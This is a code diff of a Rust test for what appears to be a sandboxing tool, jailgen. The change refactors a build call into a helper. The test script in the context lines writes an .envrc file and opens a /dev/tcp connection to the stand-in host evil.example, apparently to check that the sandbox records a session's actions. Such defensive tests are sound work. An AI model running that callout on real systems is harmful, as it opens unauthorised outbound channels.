@@ -165,8 +165,7 @@ fn the_deeds_of_a_session_are_those_that_it_did() {
     let scratch = Scratch::outside_of_tmp();
     scratch.write("deeds.jail", RUN.as_bytes());
     scratch.write("project/mine", b"mine\n");
-    let words = [&["build", "deeds.jail"][..], &setup.overrides()].concat();
-    setup.jailgen(&scratch, &setup.programs[0], &words).assert_status(0);
+    setup.build(&scratch, "deeds.jail");
     let script = "echo 'echo x' >.envrc; (exec 3<>/dev/tcp/evil.example/443); \
         echo; sleep 1000 & wait";
     let mut command = Command::new(scratch.path(".local/state/jailgen/bin/deeds"));
